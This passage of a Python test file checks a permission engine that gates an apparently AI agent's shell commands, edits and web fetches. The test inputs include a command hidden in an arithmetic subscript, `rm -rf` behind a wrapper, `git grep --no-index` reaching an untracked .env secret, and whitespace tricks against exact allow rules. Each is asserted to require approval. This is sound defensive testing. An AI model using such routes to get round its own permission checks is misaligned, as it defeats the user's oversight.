    assert "config/.env" in tree.reason and "read rule" in tree.reason
    maybe = decide_bash(world, "git pf", "auto")
    assert "bash(git push" in maybe.reason and "alias" in maybe.reason
    unknown = decide_bash(world, "mywrapper rm -rf build", "auto")
    assert "kfd does not know" in unknown.reason and "`rm`" in unknown.reason
    arithmetic = decide_bash(world, "read 'a[$(touch x)]'", "auto")
    assert "subscript" in arithmetic.reason


def test_git_grep_reads_untracked_files_only_when_told_to(tmp_path: Path) -> None:
    # The secret is on disk but not tracked: plain `git grep` cannot print it,
    # `--no-index` and `--untracked` search the files on disk and can.
    ws = tmp_path / "ws"
    ws.mkdir()
    _git("init", "-q", str(ws), cwd=tmp_path)
    (ws / "app.py").write_text("TOKEN = None\n")
    _commit(ws)
    (ws / ".env").write_text("TOKEN=x\n")
    world = World(ws, tmp_path, tmp_path)
    assert decide_bash(world, "git grep -n TOKEN", "auto").decision == "allow"
    assert decide_bash(world, "git grep --no-index TOKEN app.py", "auto").decision == "allow"
    for line in (
        "git grep --no-index TOKEN",
        "git grep --untracked -e TOKEN",
        "git grep --no-i TOKEN",
    ):
        outcome = decide_bash(world, line, "auto")
        assert outcome.decision == "ask" and ".env" in outcome.reason, line


def test_an_approved_path_is_kept_exactly_never_as_a_pattern(worlds: dict[str, World]) -> None:
    """A write of a file literally named ``**`` approved for the session keeps
    ``edit(tests/**)``: that one file, not every file under tests."""
    world = worlds["clean"]
    kept = ("edit(tests/**)",)
    assert decide_tool(world, "edit", "tests/**", write=True, extra=kept).decision == "allow"
    later = decide_tool(world, "edit", "tests/test_app.py", write=True, extra=kept)
    assert later.decision == "ask", later.reason


def test_an_approved_domain_is_kept_exactly_never_as_a_pattern(worlds: dict[str, World]) -> None:
    """A fetch of ``https://*/`` approved for the session keeps ``web_fetch(domain:*)``:
    that (unreachable) host, never every domain."""
    world = worlds["clean"]
    kept = ("web_fetch(domain:*)", "web_fetch(domain:*.example.org)")
    assert decide_tool(world, "web_fetch", **_fetch("https://*/", "*"), extra=kept).decision == (
        "allow"
    )
    for url, host in (
        ("https://other.example/", "other.example"),
        ("https://a.example.org/", "a.example.org"),
    ):
        later = decide_tool(world, "web_fetch", **_fetch(url, host), extra=kept)
        assert later.decision == "ask", later.reason


@pytest.mark.parametrize("end", ["\f", "\v", "\r", "\xa0", "\u3000", "\x1c"])
def test_an_allowed_exact_line_is_that_line_to_its_last_character(
    worlds: dict[str, World], end: str
) -> None:
    """Bash keeps a form feed or a no-break space in the last word: `make build\\f`
    runs the target `build\\f`, not the line the user allowed."""
    world = worlds["clean"]
    rule = ("bash(make build)",)
    assert decide_bash(world, "make build", session=rule).decision == "allow"
    assert decide_bash(world, f"make build{end}", session=rule).decision == "ask"
    assert decide_bash(world, f"{end}make build", session=rule).decision == "ask"
    assert decide_bash(world, " make build\n", session=rule).decision == "allow"


def test_a_path_with_a_nul_byte_is_decided_not_crashed_on(worlds: dict[str, World]) -> None:
    """`realpath` raises on a NUL byte; one bad argument must not end the turn."""
    world = worlds["repo"]
    (found,) = resolve(world.workspace, [PathAccess("README.md\0x", write=False)])
    assert found.requested == "README.md\0x" and "\0" in found.real
